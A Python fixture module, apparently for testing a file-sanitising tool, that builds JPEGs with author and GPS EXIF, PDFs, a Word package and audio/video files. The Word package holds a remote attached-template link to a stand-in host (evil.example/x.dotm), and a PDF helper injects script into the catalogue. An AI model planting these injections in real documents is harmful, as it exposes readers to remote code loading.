"""Real files, made as a phone would make them: pictures by Pillow, sound and films by FFmpeg."""

import io
import math
import zipfile
from typing import Any

import av
from PIL import Image, ImageDraw


def scene(seed: int = 1, size: tuple[int, int] = (800, 600)) -> Image.Image:
    """A picture with features; another seed looks different."""
    small = Image.new("RGB", (16, 12))
    small.putdata(
        [
            ((x * 37 * seed + y * 91) % 256, (x * 53 + y * 29 * seed) % 256, (x * y * seed) % 256)
            for y in range(12)
            for x in range(16)
        ]
    )
    picture = small.resize(size, Image.Resampling.BICUBIC)
    ImageDraw.Draw(picture).ellipse((size[0] // 4, size[1] // 4, size[0] // 2, size[1] // 2), fill="white")
    return picture


def saved(picture: Image.Image, kind: str = "JPEG", **how: Any) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **how)
    return out.getvalue()


def photo(seed: int = 1, *, size: tuple[int, int] = (800, 600), quality: int = 85, exif: bool = False) -> bytes:
    """A JPEG; with ``exif`` it says when and where, who made it, and that it must be turned upright."""
    if not exif:
        return saved(scene(seed, size), quality=quality)
    said = Image.Exif()
    said[0x0112] = 6
    said[0x013B] = "Siti Rahayu"
    said.get_ifd(0x8769)[0x9003] = "2026:02:28 10:11:12"
    place = said.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "S", (2.0, 44.0, 30.0), "E", (107.0, 38.0, 0.0)
    return saved(scene(seed, size), quality=quality, exif=said)


def letter(pages: int = 2, *, beside: bytes = b"") -> bytes:
    """A PDF of that many pages; ``beside`` is added to its catalogue, such as a script."""
    sheets = [scene(at + 1, (620, 877)) for at in range(pages)]
    made = saved(sheets[0], "PDF", save_all=True, append_images=sheets[1:], author="Siti Rahayu", resolution=75)
    return made.replace(b"/Type /Catalog", b"/Type /Catalog " + beside) if beside else made


WORD_PARTS = {
    "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "_rels/.rels": b'<Relationships><Relationship Id="r1" Type="x/officeDocument" Target="word/document.xml"/>'
    b"</Relationships>",
    "word/document.xml": b'<w:document><w:p><w:ins w:author="Siti Rahayu"><w:r><w:t>Jalan rusak</w:t></w:r></w:ins>'
    b"</w:p></w:document>",
    "word/comments.xml": b'<w:comments><w:comment w:id="0" w:author=\'Siti Rahayu\' w:initials="SR"/></w:comments>',
    "word/_rels/document.xml.rels": b'<Relationships><Relationship Id="r2" Type="x/hyperlink" Target="https://berita.example/"'
    b' TargetMode="External"/><Relationship Id="r3" Type="x/image" Target="media/image1.jpeg"/></Relationships>',
    "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r4" Type="x/attachedTemplate"'
    b' Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>',
    "docProps/core.xml": b"<cp:coreProperties><dc:creator>Siti Rahayu</dc:creator></cp:coreProperties>",
}


def document(**more: bytes) -> bytes:
    """A Word file that names its author in every way, with a photo as a phone made it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in {**WORD_PARTS, "word/media/image1.jpeg": photo(exif=True), **more}.items():
            made.writestr(name, content)
    return out.getvalue()


def recording(
    codec: str, container: str, rate: int, *, seconds: int = 2, film: str = "", tells: dict[str, str] | None = None
) -> bytes:
    """A tone; with ``film`` (a codec) moving pictures, too. ``tells``: what its header says, such as ``location``."""
    out = io.BytesIO()
    with av.open(out, "w", format=container) as made:
        made.metadata.update(tells or {})
        sound: Any = made.add_stream(codec, rate=rate, layout="mono")
        if film:
            pictures: Any = made.add_stream(film, rate=15)
            pictures.width, pictures.height, pictures.pix_fmt = 352, 288, "yuv420p"
            for at in range(15 * seconds):
                frame = av.VideoFrame.from_image(scene(at + 1, (352, 288)))
                made.mux(pictures.encode(frame))
            made.mux(pictures.encode(None))
        samples = rate // 50
        for at in range(seconds * 50):
            wave = [int(8000 * math.sin(2 * math.pi * 440 * (at * samples + each) / rate)) for each in range(samples)]
            frame = av.AudioFrame(format="s16", layout="mono", samples=samples)
            frame.planes[0].update(
                b"".join(one.to_bytes(2, "little", signed=True) for one in wave).ljust(
                    frame.planes[0].buffer_size, b"\0"
                )
            )
            frame.sample_rate, frame.pts = rate, at * samples
            made.mux(sound.encode(frame))
        made.mux(sound.encode(None))
    return out.getvalue()
